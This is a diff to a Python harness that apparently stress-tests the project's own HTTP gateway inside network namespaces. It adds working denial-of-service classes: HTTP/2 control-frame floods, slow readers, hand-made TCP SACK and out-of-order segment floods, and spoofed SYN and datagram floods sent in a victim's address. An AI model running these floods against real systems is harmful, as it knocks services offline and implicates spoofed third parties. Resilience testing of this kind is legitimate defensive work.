@@ -3,12 +3,20 @@
 all, one after the other: what it asks of the cores is bounded, so that what others notice is the gateway, not the attacker's
 part of a core. It begins anew whatever the gateway has ended."""
 import ctypes
+import functools
 import ipaddress
+import multiprocessing
 import os
 import random
+import re
+import signal
 import socket
 import struct
+import subprocess
+import sys
 import time
+
+from wire import ACK, PSH, Wire, interface
 
 PORT, ADMIN_PORT = 8080, 9900
 TICK = 0.02
@@ -25,10 +33,10 @@ def enter(namespace):
             raise OSError(ctypes.get_errno(), namespace)
 
 
-def dial(target, source, options=(), timeout=5, port=PORT):
+def dial(target, source, options=(), timeout=5, port=PORT, kind=socket.SOCK_STREAM):
     """From an address, or from any one of a prefix."""
     net = ipaddress.ip_network(source)
-    s = socket.socket(socket.AF_INET if net.version == 4 else socket.AF_INET6)
+    s = socket.socket(socket.AF_INET if net.version == 4 else socket.AF_INET6, kind)
     for option in options:
         s.setsockopt(*option)
     s.settimeout(timeout)
@@ -37,6 +45,18 @@ def dial(target, source, options=(), timeout=5, port=PORT):
     s.bind((str(net[random.randrange(net.num_addresses)]), 0))
     s.connect((target, port))
     return s
+
+
+def at_once(s, call, *args):
+    """What a call of the socket gives without waiting; None: nothing now. MSG_DONTWAIT would wait for the time-out first."""
+    patience = s.gettimeout()
+    s.settimeout(0)
+    try:
+        return call(*args)
+    except BlockingIOError:
+        return None
+    finally:
+        s.settimeout(patience)
 
 
 # --- HTTP/2 by hand ---
@@ -73,9 +93,13 @@ PING_FRAME = frame(PING, 0, 0, b"12345678")
 
 class Attack:
     count, rate, options = 1, 1, ()
+    trips = False  # the gateway has to end its connections for it
 
-    def __init__(self, target, source):
+    def __init__(self, target, source, victim=None, hand=None):
         self.target, self.source = target, source
+        self.victim = victim  # in whose address some of them come
+        self.hand = hand  # an address that no kernel answers for
+        self.calmed = multiprocessing.Value("I", 0)
 
     def dial(self):
         return dial(self.target, self.source, self.options)
@@ -85,19 +109,20 @@ class Attack:
 
     def keep(self, s):
         """Whether it is still there, and what it says is thrown away."""
-        try:
-            if not s.recv(1 << 16, socket.MSG_DONTWAIT):
-                raise EOFError
-        except BlockingIOError:
-            pass
+        if at_once(s, s.recv, 1 << 16) == b"":
+            raise EOFError
 
 
 # --- more work for the gateway than for the client ---
 
+CALMED = b"\x07\x00\x00\x00\x00\x00.{4}\x00\x00\x00\x0b"  # GOAWAY, ENHANCE_YOUR_CALM
+
+
 class Flood(Attack):
     """A burst of frames on each of four connections, 50 times a second."""
     count, rate = 4, 200
-    burst = 25
+    burst = 100
+    trips = True
 
     def begin(self):
         s = self.dial()
@@ -107,14 +132,28 @@ class Flood(Attack):
         return s
 
     def keep(self, s):
-        super().keep(s)
-        first = self.streams[s]
-        s.sendall(b"".join(self.part(n) for n in range(first, first + 2 * self.burst, 2)))
+        self.listen(s)
+        try:
+            s.sendall(self.parts(self.streams[s]))
+        except OSError:
+            self.listen(s)
+            raise
         self.streams[s] += 2 * self.burst
+
+    def listen(self, s):
+        """Until there is nothing more: how it was told to end counts."""
+        while (said := at_once(s, s.recv, 1 << 16)) is not None:
+            if re.search(CALMED, said, re.DOTALL):
+                self.calmed.value += 1
+            if not said:
+                raise EOFError
 
     def __init__(self, *where):
         super().__init__(*where)
         self.streams = {}
+
+    def parts(self, first):
+        return b"".join(self.part(n) for n in range(first, first + 2 * self.burst, 2))
 
     def part(self, stream):
         raise NotImplementedError
@@ -144,22 +183,34 @@ class Continuations(Flood):
         return frame(CONTINUATION, 0, 1, b"\x00\x01y\x01z" * 8)
 
 
-class Settings(Flood):
+class Controls(Flood):
+    """1000 a second and 10000 at once are anybody's; twenty times as many are not, also if this process gets little of a core."""
+    burst = 400
+
+    @functools.cache
+    def all_parts(self):
+        return super().parts(1)
+
+    def parts(self, first):
+        return self.all_parts()
+
+
+class Settings(Controls):
     def part(self, stream):
         return frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 1000 + stream % 1000))
 
 
-class Pings(Flood):
+class Pings(Controls):
     def part(self, stream):
         return PING_FRAME
 
 
-class Priorities(Flood):
+class Priorities(Controls):
     def part(self, stream):
         return frame(PRIORITY, 0, stream + 2, struct.pack("!IB", stream, 1))
 
 
-class EmptyData(Flood):
+class EmptyData(Controls):
     def begin(self):
         s = super().begin()
         s.sendall(head(1, b"/echo", False))
@@ -218,13 +269,104 @@ class TinyReader(SlowReader):
     options = [(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048), (socket.IPPROTO_TCP, TCP_WINDOW_CLAMP, 128)]
 
     def keep(self, s):
-        if not s.recv(64, socket.MSG_DONTWAIT):
+        if at_once(s, s.recv, 64) == b"":
             raise EOFError
 
 
 class TinySegments(SlowReader):
     """In segments of 88 bytes."""
     options = [(socket.IPPROTO_TCP, TCP_MAXSEG, 88)]
+
+
+class UnreadAsker(SlowReader):
+    """And asks again beside them, as if all were well."""
+
+    def keep(self, s):
+        at_once(s, s.send, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
+
+
+# --- segments made by hand ---
+
+class ByHand(Attack):
+    mss = 1460
+
+    def begin(self):
+        w = Wire(self.target, PORT, self.hand)
+        try:
+            w.open(self.mss)
+            self.prepare(w)
+        except BaseException:
+            w.reset()
+            w.close()
+            raise
+        return w
+
+    def keep(self, s):
+        for _ in range(64):
+            if not s.get(0):
+                return
+
+
+class SackFlood(ByHand):
+    """A large reply in small segments, of which the first is missing for ever, as 3200 acknowledgements a second tell."""
+    count, rate, mss = 4, 200, 536
+    burst = 64
+    size, taken = 500000, 260000
+
+    def prepare(self, w):
+        w.write(b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % self.size + b"x" * self.size)
+        w.take(self.taken)
+        end = w.latest(0.2)
+        if (end - w.ack) & 0xFFFFFFFF < 100 * self.mss:
+            raise EOFError
+        last = end - self.mss & 0xFFFFFFFF
+        w.said = w.packet(ACK, options=struct.pack("!BBBBII", 1, 1, 5, 10, last, end))
+
+    def keep(self, s):
+        super().keep(s)
+        for _ in range(self.burst):
+            s.put(s.said)
+
+
+class OutOfOrder(ByHand):
+    """Every other byte of a body, as many as are kept: all that is kept of this kind, and more."""
+    count, rate = 40, 40
+
+    def prepare(self, w):
+        w.write(b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n")
+        for n in range(256):
+            w.put(w.packet(ACK | PSH, b"x", 1 + 2 * n))
+
+    def keep(self, s):
+        super().keep(s)
+        s.put(s.packet(ACK | PSH, b"x", 1 + 2 * random.randrange(256)))
+
+
+class Spoofed(Attack):
+    """What a victim seems to send."""
+    packets, what = 2000, ()
+
+    def begin(self):
+        victim = str(ipaddress.ip_network(self.victim).network_address)
+        return subprocess.Popen([os.environ["BUILD"] + "/tests/netns/flood", interface(), os.environ["GATEWAY_MAC"],
+                                 self.target, str(PORT), "200", str(self.packets), victim, *self.what],
+                                stdout=subprocess.DEVNULL, preexec_fn=end_with_parent)
+
+    def keep(self, s):
+        if s.poll() is not None:
+            raise EOFError
+
+
+class SpoofedSyns(Spoofed):
+    pass
+
+
+class SpoofedDatagrams(Spoofed):
+    what = ("1",)
+
+
+def end_with_parent():
+    ctypes.CDLL(None).prctl(1, signal.SIGKILL)
 
 
 # --- requests that are never whole ---
@@ -306,19 +448,30 @@ class SilentAdmin(Attack):
 
 
 GROUPS = {
-    "floods": (RapidReset, MadeYouReset, Continuations, Settings, Pings, Priorities, EmptyData),
-    "readers": (WindowZero, WindowTiny, SlowReader, TinyReader, TinySegments),
-    "requests": (SlowHead, SplitHead, SlowBody, HalfOpen),
-    "places": (Watches, Idle, SilentAdmin),
+    "floods": (RapidReset, MadeYouReset, Continuations, Settings, Pings, Priorities, EmptyData, SackFlood),
+    "readers": (WindowZero, WindowTiny, SlowReader, TinyReader, TinySegments, UnreadAsker),
+    "requests": (SlowHead, SplitHead, SlowBody, HalfOpen, OutOfOrder),
+    "places": (Watches, Idle, SilentAdmin, SpoofedSyns, SpoofedDatagrams),
 }
 
 
 def hold(attack, under_way, namespace):
-    """For ever; says when each connection was begun once."""
+    """Until it is told to end; says when each connection was begun once."""
     os.nice(10)
     if isinstance(attack, SilentAdmin):
         enter(namespace)
-    held, touched, debt, then = [None] * attack.count, 0, 0.0, time.monotonic()
+    held = [None] * attack.count
+    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
+    try:
+        hold_all(attack, held, under_way)
+    finally:
+        for one in held:
+            if isinstance(one, Wire):
+                one.reset()
+
+
+def hold_all(attack, held, under_way):
+    touched, debt, then = 0, 0.0, time.monotonic()
     while True:
         now = time.monotonic()
         debt += (now - then) * (attack.rate if touched >= attack.count else BEGIN_RATE)
